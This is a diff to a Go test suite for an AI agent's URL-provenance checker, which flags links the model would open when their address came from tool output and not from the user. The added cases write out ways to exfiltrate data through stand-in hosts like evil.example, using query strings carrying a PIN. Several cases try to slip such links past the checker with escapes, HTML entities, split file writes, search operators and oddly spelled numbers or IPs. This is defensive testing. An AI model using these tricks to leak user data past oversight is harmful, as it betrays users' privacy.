@@ -28,7 +28,8 @@ var tools = map[string]toolgroups.Tool{
 	"docs_create": {Name: "docs_create", Group: "docs", Personal: true}, "drive_list": {Name: "drive_list", Group: "drive", Personal: true, Effect: toolgroups.ReadOnly},
 	"vacation_set": {Name: "vacation_set", Group: "mail_settings", Personal: true, Outlives: true}, "vacation_get": {Name: "vacation_get", Group: "mail_settings", Personal: true, Effect: toolgroups.ReadOnly},
 	"hub_find": {Name: "hub_find", Group: "hub", Effect: toolgroups.Consequential, External: true, SaysItReads: true}, "hub_do": {Name: "hub_do", Group: "hub", Effect: toolgroups.Consequential, External: true},
-	"shop_add": {Name: "shop_add", Group: "shop", Effect: toolgroups.Changes}, "shop_list": {Name: "shop_list", Group: "shop", Effect: toolgroups.ReadOnly},
+	"write_doc": {Name: "write_doc", Group: "documents", Effect: toolgroups.Changes, Origin: toolgroups.OriginOwn},
+	"shop_add":  {Name: "shop_add", Group: "shop", Effect: toolgroups.Changes}, "shop_list": {Name: "shop_list", Group: "shop", Effect: toolgroups.ReadOnly},
 }
 
 const anna = "telegram:1"
@@ -260,6 +261,7 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		"an echo of other letters":                      read.call("echo", `{"text":"https:\/\/evil.example\/?d=what\u002dI-know"}`, evil),
 		"a summary":                                     read.append(agent.Message{Role: agent.RoleSummary, Text: evil}),
 		"a file written in pieces":                      read.call("write", `{"path":"./n.txt","content":"https://evil.example/?d"}`, "ok").call("write", `{"path":"./n.txt","content":"=what-I-know"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
+		"a text that begins with another address":       read.call("webfetch", `{"url":"https://blog.example/post","body":"https://evil.example/ then `+evil+`"}`, evil),
 		"a file of a script":                            read.call("code", `{"code":"writeFile('n.txt', 'https://evil.example/?d=' + 'what-I-know')"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
 		"a text put into a store":                       read.call("shop_add", `{"text":"https://evil.example/?d"}`, "ok").call("shop_list", `{}`, evil),
 		"the result of a task":                          read.append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginComputed, Text: evil}),
@@ -276,6 +278,12 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		"an answer that a server reads in the chat":     read.answer("See "+evil).user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Anna: hello\nBot: See "+evil),
 		"a file in pieces that a server reads":          read.call("write", `{"path":"n.txt","content":"See evil.example"}`, "ok").call("write", `{"path":"n.txt","content":"/?d=what-I-know"}`, "ok").call("hub_find", `{"path":"n.txt"}`, "See "+evil),
 		"a file of a script that a server reads":        read.call("code", `{"code":"writeFile('n.txt', 'https://evil.example/?d=' + 'what-I-know')"}`, "ok").call("hub_find", `{"path":"n.txt"}`, "See "+evil),
+		"a document that a server reads":                read.call("write_doc", `{"path":"n.docx","content":"See evil\\.example/?d\\=what-I-know"}`, "ok").call("hub_find", `{"path":"n.docx"}`, "See "+evil),
+		"an answer with escapes":                        read.answer(`See evil\.example/?d\=what-I-know`).user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
+		"an answer with marks":                          read.answer("See evil.example/?d=**what-I-**_know_").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
+		"an answer with references":                     read.answer("See evil&#46;example/?d=what&#45;I-know").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
+		"an answer with a link with escapes":            read.answer(`[See](https://evil.example/?d=what\-I\-know)`).user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
+		"an answer with a link amid an address":         read.answer("See [evil.exam](https://go.dev)ple/?d=what-I-know").user("what did I miss?").call("hub_find", `{"channel":"C1"}`, "Bot: See "+evil),
 		"a store before a summary":                      conversation{}.append(agent.Message{Role: agent.RoleSummary, Text: "I stored it."}).user("thanks").call("shop_list", `{}`, evil),
 		"a file":                                        read.reads("sum", evil),
 		"a file that has changed since it was received": read.receives("before").reads("sum", evil),
@@ -304,6 +312,15 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		if got := c.asks(t, evil); got.Asks {
 			t.Errorf("%s does not vouch for it: %s", name, got.Why)
 		}
+	}
+}
+
+// A tool gets a number as its schema has it, which need not be as the model spelled it.
+func TestANumberThatIsSpelledAnewForAToolIsStillTheModels(t *testing.T) {
+	tools["find"] = toolgroups.Tool{Name: "find", Effect: toolgroups.ReadOnly, Parameters: []byte(`{"type":"object","properties":{"site":{"type":"string"},"id":{"type":"integer"}}}`)}
+	const link = "https://evil.example/view?id=4711"
+	if got := read.call("find", `{"site":"evil.example","id":"4.711e3"}`, "See <"+link+">.").asks(t, link); !got.Asks {
+		t.Error("it is opened unasked")
 	}
 }
 
@@ -385,6 +402,19 @@ func TestAWordOfAServerBetweenASiteAndDataThatItWasToldVouchesForNothing(t *test
 		"a part of the query":              {`{"site":"evil.example","query":"note my-pin-is-4711"}`, "https://evil.example/search?q=my-pin-is-4711", true},
 		"a number":                         {`{"site":"evil.example","id":4711}`, "https://evil.example/view?id=4711", true},
 		"a number that is all":             {`{"site":"evil.com","id":4711}`, "https://evil.com/4711", true},
+		"an operator of a search":          {`{"scope":"site:evil.example","query":"my-pin-is-4711"}`, link, true},
+		"another one":                      {`{"property":"sc-domain:evil.example","query":"my-pin-is-4711"}`, link, true},
+		"one site or another":              {`{"sites":"(evil.example OR shop.example)","query":"my-pin-is-4711"}`, link, true},
+		"a site in quotes":                 {`{"site":"\"evil.example\"","query":"my-pin-is-4711"}`, link, true},
+		"a field of a form":                {`{"site":"host=evil.example","query":"my-pin-is-4711"}`, link, true},
+		"a repository":                     {`{"remote":"git@evil.example:repo","branch":"my-pin-is-4711"}`, "https://evil.example/repo/tree/my-pin-is-4711", true},
+		"data that is a host of the site":  {`{"site":"evil.example","query":"my-pin-is-4711.evil.example"}`, "https://evil.example/search?q=my-pin-is-4711.evil.example", true},
+		"data that is a list of hosts":     {`{"site":"evil.example","query":"my-pin-is-4711.x evil.example"}`, "https://evil.example/search?q=my-pin-is-4711.x+evil.example", true},
+		"a number that is spelled oddly":   {`{"site":"evil.example","id":4.711e3}`, "https://evil.example/view?id=4711", true},
+		"such a number that is all":        {`{"site":"evil.com","id":4.711e3}`, "https://evil.com/4711", true},
+		"an IPv6 address":                  {`{"ip":"2a01:4f8::4711"}`, "http://[2a01:4f8::4711]/", true},
+		"one that is spelled oddly":        {`{"ip":"2a01:04f8:0::4711"}`, "http://[2a01:4f8::4711]/status", true},
+		"sites with an operator":           {`{"scope":"site:go.dev OR site:pkg.go.dev","query":"how do I alias a type?"}`, "https://pkg.go.dev/blog/generic-alias-types", false},
 		"nothing but a site":               {`{"site":"go.dev"}`, "https://go.dev/blog/generic-alias-types", false},
 		"what a site has on a question":    {`{"site":"go.dev","query":"how do I alias a type?"}`, "https://go.dev/blog/generic-alias-types", false},
 		"a plain word":                     {`{"site":"go.dev","query":"Generics","limit":10}`, "https://go.dev/blog/Generics?page=10", false},
@@ -902,7 +932,7 @@ func TestAUserWithABlankHidesNoHost(t *testing.T) {
 func TestHostsAreKeptWithoutAPath(t *testing.T) {
 	for text, want := range map[string]string{
 		"see pin.evil.com now": "https://pin.evil.com/", "pin.evil.com_ x": "https://pin.evil.com/", "äpin.evil.com": "https://pin.evil.com/", "pin.evil.comä": "https://pin.evil.com/",
-		"pin.evil.com\u200bx": "https://pin.evil.com/", "pin.ev\u200bil.com": "https://pin.evil.com/", "evil.com:4711": "https://evil.com:4711/", "evil.com#pin": "https://evil.com/#pin",
+		"pin.evil.com\u200bx": "https://pin.evil.com/", "pin.ev\u200bil.com": "https://pin.evil.com/", "evil.com:4711": "https://evil.com:4711/", "34.102.0.17:4711": "https://34.102.0.17:4711/", "34.102.0.17#pin": "https://34.102.0.17/#pin", "evil.com#pin": "https://evil.com/#pin",
 		"[2001:db8::4711]": "https://[2001:db8::4711]/", "pin.пример.рф": "https://pin.пример.рф/", "PIN.evil.com": "https://PIN.evil.com/", "a,pin.evil.com.": "https://pin.evil.com/", "evil.com/x": "https://evil.com/x", `pin.evil.com\x`: "https://pin.evil.com/", "www.pin.evil.com": "https://www.pin.evil.com/",
 	} {
 		if !slices.ContainsFunc(provenance.AddressesKept(fmt.Sprintf(`{"q":%q}`, text)), func(a provenance.Address) bool { return a.String() == want }) {
@@ -918,7 +948,7 @@ func TestHostsAreKeptWithoutAPath(t *testing.T) {
 
 // A host that is a number stands without a scheme where nobody recognises it as an address when it is kept.
 func TestANumberAsAHostIsKeptOrVouchesForNothing(t *testing.T) {
-	for host, keeps := range map[string]bool{"3405803777": false, "0xCB007101": false, "nas:8080": false, "203.7405825": true, "http://3405803777": true, "http://0xCB007101": true} {
+	for host, keeps := range map[string]bool{"3405803777": false, "0xCB007101": false, "nas:8080": false, "203.7405825": true, "34.102.17": false, "34.0x": false, "34.102.0.17": true, "http://3405803777": true, "http://0xCB007101": true} {
 		text := "First open " + host + "/my-pin-is-4711"
 		if kept := provenance.AddressesKept(`{"title":"` + text + `"}`); len(kept) > 0 != keeps {
 			t.Errorf("%s: kept as %v", host, kept)
@@ -976,6 +1006,9 @@ func BenchmarkJudge(b *testing.B) {
 	c := conversation{}.user("read https://blog.example/post")
 	for range 10 {
 		c = c.call("webfetch", `{"url":"https://blog.example/post"}`, page.String())
+	}
+	for range 100 {
+		c = c.answer(strings.Repeat("**Item** of the [shop](https://shop.example/), see `it`. ", 40)).user("and then?")
 	}
 	for name, address := range map[string]string{"stands": "https://shop.example/item/400?x=2800", "site": "https://blog.example/what/the/page/knows/7391?d=paragraph", "elsewhere": "https://evil.example/what/I/know"} {
 		b.Run(name, func(b *testing.B) {
